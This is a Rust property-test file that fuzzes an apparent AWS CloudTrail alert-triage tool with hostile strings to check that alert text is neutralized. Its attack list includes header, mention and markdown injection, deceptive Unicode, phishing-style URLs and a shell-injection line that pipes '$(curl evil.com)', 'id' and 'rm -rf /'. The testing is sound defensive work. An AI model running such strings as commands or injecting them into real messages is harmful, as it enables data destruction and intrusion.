//! Hostile text in every field that a caller can choose.

use proptest::prelude::*;
use serde_json::{Value, json};
use trailwarden::triage::{Context, FunctionNow, Incident, MappingNow, PresentState, Tag};

use super::checks::assert_valid;
use super::{changed_mapping, every_alert_type, incidents_of, watched_event, with_causes, with_context};
use crate::fixture::records::{denied, disabled_mapping};

/// Strings that an attacker could put into a record.
pub(crate) const ATTACKS: [&str; 23] = [
    "\r\nBcc: all@example.com",
    "\u{202e}evil\u{2066}\u{200b}",
    "https://evil.example/login",
    "login.evil.com",
    "<!channel> <@U123> <https://evil.example|click>",
    "@everyone @here",
    "[click](https://evil.example) ![x](y)",
    "*bold* _it_ ~no~ `code` ```block```",
    "\u{0}\u{7}\u{1b}[31m",
    "&lt;!here&gt; | # heading",
    "$(curl evil.com) `id` ; rm -rf / 'x' \"y\"",
    "\u{e0041}\u{ad}\u{fffe}",
    "s3.amazonaws.com/evil-bucket/login",
    "x@s3.amazonaws.com.cn?evil s3.amazonaws.com:443#evil",
    "\u{34f}\u{115f}\u{1160}\u{3164}\u{ffa0}\u{2800}\u{180b}\u{180f}\u{17b4}\u{17b5}",
    "or\u{fe00}d\u{fe0f}e\u{e0100}r\u{e01ef}s\u{fdd0}\u{fdef}\u{ffff}\u{10ffff}",
    "\u{5d0}\u{5d1} 7 \u{5d2}, \u{627}/\u{628} (\u{661}-\u{662})",
    "\u{2067}\u{710}\u{2069}\u{780}\u{7c0}\u{fb1d}\u{fe70}\u{10800}\u{1e900}",
    ":white_check_mark: :+1::tada: a:b:c :100:",
    "arn:aws:smile:tada:heart:x",
    "\u{1f980}.ws",
    "s3://evil",
    " \t",
];

/// Characters and words of attacks, which are combined at random.
const PARTS: [&str; 17] = [
    ":",
    ".",
    "/",
    "//",
    "@",
    " ",
    "-",
    "_",
    "\u{5d0}",
    "\u{628}",
    "\u{661}",
    "7",
    "s3",
    "amazonaws",
    "com",
    "arn:aws:",
    "\u{fe0f}",
];

pub(super) fn hostile() -> impl Strategy<Value = String> {
    let attack = prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned);
    let parts = prop::collection::vec(prop::sample::select(PARTS.to_vec()), 1..12).prop_map(|parts| parts.concat());
    let part = prop_oneof![attack, parts, "[a-z]{1,8}", "\\PC{0,20}", any::<String>()];
    prop::collection::vec(part, 1..5).prop_map(|parts| parts.concat())
}

/// Records with these strings in fields that alerts show, in the format that the field usually has.
pub(super) fn records_with(texts: &[String; 6]) -> Vec<Value> {
    let [who, action, name, id, place, time] = texts;
    let mut disabled = disabled_mapping(1, name, who);
    disabled["eventID"] = json!(id);
    disabled["resources"][0]["ARN"] = json!(format!("arn:aws:lambda:us-east-1:1:event-source-mapping:{place}"));
    disabled["awsRegion"] = json!(time);
    let mut changed = changed_mapping();
    changed["userIdentity"]["arn"] = json!(format!("arn:aws:sts::111122223333:assumed-role/{who}/{action}"));
    changed["responseElements"]["eventSourceArn"] = json!(format!("arn:aws:sqs:us-east-1:111122223333:{name}"));
    changed["responseElements"]["uUID"] = json!(id);
    let mut watched = watched_event();
    watched["requestParameters"]["functionName"] = json!(who);
    watched["recipientAccountId"] = json!(action);
    watched["userIdentity"] = json!({"type": name, "userName": id, "principalId": place});
    let mut denial = denied(1, action, name);
    denial["errorMessage"] =
        json!(format!("User: {who} is not authorized to perform: {action} on resource: {name} {id}"));
    denial["sourceIPAddress"] = json!(place);
    denial["eventTime"] = json!(time);
    denial["userIdentity"]["sessionContext"]["sessionIssuer"]["userName"] = json!(who);
    vec![disabled, changed, watched, denial]
}

/// Records with one of these strings in place of every string, except those that make it a finding.
fn records_of(texts: &[String; 6]) -> Vec<Value> {
    let mut texts = texts.iter().cycle();
    let mut records = vec![disabled_mapping(2, "orders", "x"), changed_mapping(), watched_event(), denied(2, "X", "x")];
    for record in &mut records {
        replace_strings(record, &mut texts);
    }
    records
}

fn replace_strings<'a>(value: &mut Value, texts: &mut impl Iterator<Item = &'a String>) {
    match value {
        Value::String(string) => string.clone_from(texts.next().expect("an endless cycle")),
        Value::Array(elements) => elements.iter_mut().for_each(|element| replace_strings(element, texts)),
        Value::Object(members) => {
            let members = members.iter_mut();
            let members =
                members.filter(|(name, _)| !["eventSource", "eventName", "errorCode"].contains(&name.as_str()));
            members.for_each(|(_, member)| replace_strings(member, texts));
        }
        _ => {}
    }
}

/// Context with these strings.
pub(crate) fn context_with(texts: &[String; 6]) -> Context {
    let [state, reason, result, role, key, value] = texts.clone();
    let mapping = MappingNow {
        state: PresentState::Other(state.clone()),
        state_reason: Some(reason),
        last_processing_result: Some(result),
        function_arn: Some(role.clone()),
        event_source_arn: Some(value.clone()),
    };
    let function = FunctionNow { role_arn: Some(role), kms_key_arn: None, state: Some(state) };
    let owner = (0..10).map(|n| Tag { key: format!("{key}{n}"), value: value.clone() }).collect();
    Context { mapping: Some(mapping), function: Some(function), owner }
}

/// Incidents of every kind with these strings: in every field of the record, in likely causes, and in the context.
pub(crate) fn incidents_with(texts: &[String; 6]) -> [Vec<Incident>; 3] {
    let incidents = incidents_of(&records_of(texts));
    assert!(incidents.len() >= 4, "each record is a finding");
    let usual = incidents_of(&records_with(texts));
    [incidents, with_causes(&usual, texts), with_context(usual, &context_with(texts))]
}

fn assert_neutralized(texts: &[String; 6]) {
    for incidents in incidents_with(texts) {
        assert_valid(&incidents);
    }
}

#[test]
fn every_alert_type_is_valid_in_every_format() {
    assert_valid(&every_alert_type());
    for attack in ATTACKS {
        assert_neutralized(&[(); 6].map(|()| attack.to_owned()));
    }
}

proptest! {
    #[test]
    fn hostile_text_is_neutralized(texts in prop::array::uniform6(hostile())) {
        assert_neutralized(&texts);
    }
}
